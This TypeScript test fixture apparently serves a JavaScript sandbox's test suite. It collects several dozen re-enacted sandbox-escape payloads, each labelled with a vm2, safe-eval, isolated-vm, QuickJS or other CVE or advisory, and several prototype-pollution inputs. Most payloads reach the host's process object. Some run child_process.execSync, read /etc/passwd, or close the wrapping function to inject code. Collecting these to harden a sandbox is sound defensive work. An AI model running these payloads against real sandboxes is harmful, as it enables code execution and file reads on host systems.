/*
 * Ways out of JavaScript sandboxes that were published, each re-enacted in our words with where it is described. A script returns what `proof` makes
 * of the host's `process` when it gets hold of it. `isPlain`: it leaves a context of `node:vm` too, which a test uses to show that the scripts are real.
 */
export interface ScriptEscape {
  source: string
  script: string
  isPlain?: true
}

/** `host` is an object that the sandbox got from outside: what a bridge hands in. Here, whatever comes closest. */
const reach = (expression: string): string => `return proof(${expression}("return process")())`

const functionConstructors: ScriptEscape[] = [
  {
    source: 'Node.js documentation of node:vm, "not a security mechanism"',
    script: reach('this.constructor.constructor'),
    isPlain: true,
  },
  { source: 'vm2 issue 32', script: reach('globalThis.constructor.constructor'), isPlain: true },
  { source: 'CVE-2017-16088 safe-eval', script: reach('host.constructor.constructor'), isPlain: true },
  {
    source: 'CVE-2022-25904 safe-eval, through __defineGetter__',
    script: reach('host.__defineGetter__.constructor'),
    isPlain: true,
  },
  { source: 'CVE-2023-26121 safe-eval, through valueOf', script: reach('host.valueOf.constructor'), isPlain: true },
  {
    source: 'CVE-2023-26122 safe-eval, through __lookupGetter__',
    script: reach('host.__lookupGetter__("__proto__").constructor'),
    isPlain: true,
  },
  { source: 'CVE-2017-16226 static-eval', script: reach('(function () {}).constructor') },
  { source: 'CVE-2021-23771 notevil', script: reach('[].map.constructor') },
  { source: 'CVE-2017-1001002 math.js, typed function', script: reach('Math.abs.constructor') },
  { source: 'CVE-2020-5219 angular-expressions', script: reach('"".sub.call.call.constructor') },
  { source: 'CVE-2021-21277 angular-expressions, in the names of locals', script: reach('({}).toString.constructor') },
  { source: 'CVE-2025-12735 expr-eval, functions in the context', script: reach('console.log.constructor') },
  { source: 'CVE-2024-21534 jsonpath-plus, filters run by vm', script: reach('console.info.constructor.constructor') },
  { source: 'CVE-2024-51757 happy-dom', script: reach('setTimeout.constructor') },
  { source: 'CVE-2025-61927 happy-dom, escape of the VM context', script: reach('URL.constructor') },
  { source: 'CVE-2021-23406 pac-resolver, degenerator', script: reach('atob.constructor') },
  {
    source: 'CVE-2025-68613 n8n, expressions with this.process',
    script: 'return proof((function () { return this.process })())',
  },
  {
    source: 'CVE-2019-19919 handlebars, constructor by look-up',
    script: reach('Object.getPrototypeOf(host.toString).constructor'),
    isPlain: true,
  },
  {
    source: 'CVE-2021-36686 YApi, mock scripts run in the process',
    script: 'return proof(await Object.getPrototypeOf(async () => {}).constructor("return process")())',
  },
  {
    source: 'YApi, scripts in safeify: generator functions',
    script: 'return proof(Object.getPrototypeOf(function* () {}).constructor("return process")().next().value)',
  },
]

const hostErrors: ScriptEscape[] = [
  {
    source: 'CVE-2019-10761 vm2, a host error by running out of stack',
    script:
      'const f = () => { try { f() } catch (e) { const made = e.constructor.constructor("return process")(); if (made) throw made } }; try { f() } catch (p) { return proof(p) }',
  },
  {
    source: 'CVE-2021-23449 vm2, an error of import()',
    script: 'try { await import("data:,") } catch (e) { return proof(e.constructor.constructor("return process")()) }',
  },
  {
    source: 'CVE-2022-36067 vm2, Error.prepareStackTrace',
    script:
      'globalThis.Error = { prepareStackTrace: (_, frames) => frames.map((f) => f.getThis?.()) }; const { stack } = new EvalError(); return proof([].concat(stack).find((t) => t?.process)?.process)',
  },
  {
    source: 'CVE-2023-29017 vm2, prepareStackTrace of an asynchronous error',
    script:
      'Error.prepareStackTrace = (e, frames) => { e.caught = frames; return "" }; try { await Promise.reject(new Error()) } catch (e) { String(e.stack); return proof(e.caught[0].getThis().constructor.constructor("return process")()) }',
  },
  {
    source: 'CVE-2023-29199 vm2, exceptions that are rethrown unseen',
    script:
      'const handler = { getPrototypeOf() { throw { toString: () => this } } }; try { Object.setPrototypeOf(console.log, new Proxy({}, handler)); console.log(1) } catch (e) { return proof(e.constructor.constructor("return process")()) }',
  },
  {
    source: 'CVE-2023-30547 vm2, getPrototypeOf of a thrown proxy',
    script:
      'const p = new Proxy({}, { getPrototypeOf() { (function deep() { new Error().stack; deep() })() } }); try { throw p } catch ({ constructor: c }) { return proof(c.constructor("return process")()) }',
  },
  {
    source: 'CVE-2023-37466 vm2, Promise species',
    script:
      'const own = async () => { const f = (n) => n === 0 ? new Error().stack : f(n - 1); return f(1e5) }; class Own extends Promise { static get [Symbol.species]() { return function (run) { run(() => {}, (e) => { globalThis.got = e }) } } } try { await Own.prototype.then.call(own()) } catch (e) { globalThis.got = e } return proof(globalThis.got.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2026-22709 vm2, handlers of promises of async functions',
    script:
      'const error = new Error(); error.name = Symbol(); const p = (async () => error.stack)(); let found; await p.catch((e) => { found = e }); return proof((found ?? p).constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2026-44001 vm2, a rejection no one handles',
    script:
      'new Promise((_, reject) => reject({ toString() { return proof(this.constructor.constructor("return process")()) } })); return "left alone"',
  },
  {
    source: 'CVE-2026-45411 vm2, yield* in an asynchronous generator',
    script:
      'async function* make() { yield* { [Symbol.asyncIterator]: () => ({ next: () => ({ value: 1 }), return: () => ({ then() { throw new Error() } }) }) } } const g = make(); await g.next(); try { await g.return() } catch (e) { return proof(e.constructor.constructor("return process")()) }',
  },
  {
    source: 'GHSA-55hx-c926-fr95 vm2, SuppressedError',
    script:
      'const e = new SuppressedError(new Error(), new Error()); return proof(e.error.constructor.constructor("return process")())',
  },
  {
    source: 'GHSA-v37h-5mfm-c47c and CVE-2023-37903 vm2, util.inspect.custom',
    script:
      'console.log({ [Symbol.for("nodejs.util.inspect.custom")]: (depth, opt, inspect) => { globalThis.got = inspect } }); return proof(globalThis.got.constructor("return process")())',
  },
  {
    source: 'CVE-2023-32313 vm2, console methods that can be replaced',
    script: 'console.log = console.info.bind({}); return proof(console.log.constructor("return process")())',
  },
  {
    source: 'CVE-2023-32314 vm2, an unexpected proxy of the host',
    script:
      'const error = new Error(); error.name = { toString: new Proxy(() => "", { apply: (_, self, args) => { globalThis.got = args } }) }; try { error.stack } catch {} return proof(globalThis.got.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2026-44000 vm2, what a promise of the host resolves to',
    script:
      'const answer = await pm.sendRequest("https://host.example"); return proof(answer.constructor.constructor("return process")())',
  },
  {
    source: 'realms-shim CVE-2021-23543, errors of the host',
    script:
      'try { pm.sendRequest.call(null, { get url() { throw { get: 1 } } }); await pm.sendRequest({ url: Symbol() }) } catch (e) { return proof(e.constructor.constructor("return process")()) }',
  },
]

const bridges: ScriptEscape[] = [
  {
    source: 'vm2 issue 175, a getter that returns a host function',
    script:
      'Object.defineProperty(Object.prototype, "get", { configurable: true, get() { throw (x) => x.constructor("return process")() } }); try { console.log({}); pm.environment.get("a") } catch (e) { if (typeof e === "function") return proof(e(() => {})) } return proof(undefined)',
  },
  {
    source: 'vm2 issue 177, a constructor the host calls',
    script:
      'const trap = new Proxy(class {}, { construct: () => () => (x) => x.constructor("return process")() }); return proof(Reflect.construct(trap, [])()(console.log))',
  },
  {
    source: 'vm2 issue 184, __lookupGetter__ of a host function',
    script:
      'return proof(Object.getOwnPropertyDescriptor(console.log.__lookupGetter__("__proto__").call(console.log), "constructor").value("return process")())',
  },
  {
    source: 'vm2 issue 186, host functions as handlers of a proxy',
    script:
      'const p = new Proxy(console.log, { apply: (target) => target.constructor("return process")() }); return proof(p())',
  },
  {
    source: 'vm2 issue 187, arguments.callee.caller',
    script:
      'function own() { return own.caller ?? arguments.callee.caller } return proof([1].map(own)[0].constructor("return process")())',
  },
  {
    source: 'vm2 issue 224, Symbol.toPrimitive called by the host',
    script:
      'let got; try { console.log({ [Symbol.toPrimitive](hint) { got = this.constructor.constructor("return process")() } } + "") } catch {} return proof(got)',
  },
  {
    source: 'vm2 issue 225, a WeakMap that collects host objects',
    script:
      'const set = WeakMap.prototype.set; const seen = []; WeakMap.prototype.set = function (k, v) { seen.push(k); return set.call(this, k, v) }; console.log({}); return proof(seen[0].constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2021-23555 vm2, Object.prototype.__proto__ of host objects',
    script:
      'const seen = []; Object.defineProperty(Object.prototype, "__proto__", { configurable: true, get() { seen.push(this); return null }, set(v) { seen.push(v) } }); pm.test("x", () => {}); return proof(seen.find((s) => s?.process)?.process)',
  },
  {
    source: 'CVE-2022-25893 vm2, prototype look-up of WeakMap',
    script:
      'const get = WeakMap.prototype.get; let got; WeakMap.prototype.get = function (k) { got = k; return get.call(this, k) }; CryptoJS.MD5("a"); return proof(got.constructor.constructor("return process")())',
  },
  {
    source: 'GHSA-grj5-jjm8-h35p vm2, __lookupGetter__',
    script:
      'const getter = ({}).__lookupGetter__("__proto__"); return proof(getter.call(getter.call(pm.sendRequest)).constructor.constructor("return process")())',
  },
  {
    source: 'GHSA-qvjj-29qf-hp7p vm2, species of promises',
    script:
      'Object.defineProperty(Promise, Symbol.species, { configurable: true, value: class { constructor(run) { run((v) => { globalThis.got = v }, (e) => { globalThis.got = e }) } } }); Promise.resolve(1).then(() => 2); return proof(globalThis.got?.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2026-44008 vm2, species of arrays',
    script:
      'let got; Object.defineProperty(Array.prototype, "constructor", { configurable: true, get() { got = this; return Array } }); console.log([1, 2].map((x) => x)); return proof(got.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2026-44006 vm2, structures below the bridge',
    script:
      'const names = []; for (let o = pm; o !== null; o = Object.getPrototypeOf(o)) names.push(...Reflect.ownKeys(o).map(String)); return proof(globalThis[names.find((n) => /host|bridge|process/.test(n))])',
  },
  {
    source: 'isolated-vm CVE-2021-21413, a reference of the host',
    script:
      'return proof(Object.getOwnPropertyNames(globalThis).map((n) => globalThis[n]).find((v) => typeof v?.mainModule === "object"))',
  },
  {
    source: 'isolated-vm CVE-2022-39266, cached data of scripts',
    script: 'return proof(new Function("return this")().process)',
  },
  {
    source: 'realms-shim CVE-2021-23594, the function that evaluates',
    script: 'return proof((0, eval)("this").process)',
  },
  {
    source: 'SES, figuring out the global of a sloppy function',
    script: 'return proof((function () { return this })().process)',
  },
  {
    source: 'jailed, messages of the worker',
    script: 'return proof(self.process ?? postMessage.constructor("return process")())',
  },
  {
    source: 'QuickJS in process: std and os modules',
    script:
      'const os = await import("os"); const std = await import("std"); return proof({ version: String(std.getenv("PATH") ?? os.platform) })',
  },
  {
    source: 'QuickJS in process: loadScript and scriptArgs',
    script: 'return proof({ version: String(std.loadFile("/etc/passwd")) })',
  },
  {
    source: 'quickjs-emscripten, host functions kept by their id',
    script:
      'return proof(Object.getOwnPropertyNames(globalThis).includes("__host") ? __host("process", "{}") : undefined)',
  },
]

const modules: ScriptEscape[] = [
  {
    source: 'CVE-2026-47140 vm2, builtins process and inspector/promises',
    script:
      'const p = ["process", "node:process", "inspector/promises"].map((n) => { try { return require(n) } catch { return undefined } }); return proof(p.find((m) => m !== undefined))',
  },
  {
    source: 'vm2 issue 197, require of child_process',
    script: 'return proof({ version: require("child_process").execSync("node --version").toString() })',
  },
  { source: 'module loading by process.mainModule', script: 'return proof(process.mainModule.require("process"))' },
  { source: 'process.binding', script: 'return proof({ version: process.binding("natives").version })' },
  { source: 'import() of a built-in module', script: 'return proof((await import("node:process")).default)' },
  { source: 'import.meta', script: 'return proof({ version: (0, eval)("import.meta.url") })' },
  {
    source: 'GHSA-ffh4-j6h5-pg66 vm2, WebAssembly and JSTag',
    script:
      'const module = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return proof(module.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2026-47210 vm2, promises of WebAssembly',
    script:
      'const promise = WebAssembly.promising(() => 1)(); return proof(promise.constructor.constructor("return process")())',
  },
  {
    source: 'GHSA-47x8-96vw-5wg6 vm2, symbols shared between realms',
    script:
      'const s = Symbol.for("nodejs.rejection"); return proof(Object.getOwnPropertySymbols(globalThis).concat(s).map((k) => globalThis[k]).find(Boolean)?.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2017-5941 node-serialize, functions in what is read',
    script:
      'return proof(JSON.parse(JSON.stringify({ r: "_$$ND_FUNC$$_function () { return process }()" })).r.constructor.constructor("return process")())',
  },
  {
    source: 'CVE-2021-23337 lodash, a template that is compiled',
    script: 'return proof(new Function("with (this) { return process }").call({}))',
  },
  {
    source: 'CVE-2020-7677 thenify, names that are evaluated',
    script: 'return proof(Function("a", "}, process, function () {")("x"))',
  },
  {
    source: 'closing the function the script is put in',
    script: '}).call(this); (function () { return proof(process) })(); (async function () {',
  },
]

const pollution: ScriptEscape[] = [
  ['CVE-2018-3721 lodash.merge', 'JSON.parse(\'{"__proto__": {"polluted": "yes"}}\')'],
  ['CVE-2019-10744 lodash.defaultsDeep', '({ constructor: { prototype: { polluted: "yes" } } })'],
  ['CVE-2020-7598 minimist', '({ ["__proto__"]: { polluted: "yes" } })'],
  ['CVE-2019-11358 jQuery.extend', '[{ ["__proto__"]: { polluted: "yes" } }]'],
  ['CVE-2022-46175 JSON5', 'Object.defineProperty({}, "__proto__", { enumerable: true, value: { polluted: "yes" } })'],
].map(([source, value]) => ({
  source: `${source ?? ''}: in what leaves the script`,
  script: `const bad = ${value ?? ''}; Object.assign(req, bad); pm.environment.set("__proto__", JSON.stringify(bad)); resp_ = bad; req.headers = bad; req.params = bad; req.data = bad; return bad`,
}))

export const scriptEscapes: readonly ScriptEscape[] = [
  ...functionConstructors,
  ...hostErrors,
  ...bridges,
  ...modules,
  ...pollution,
]

/** Goes before each of them: turns what was got hold of into the proof of it. */
export const proofHead = 'const proof = (got) => "ESCAPED " + got.version.slice(0); '
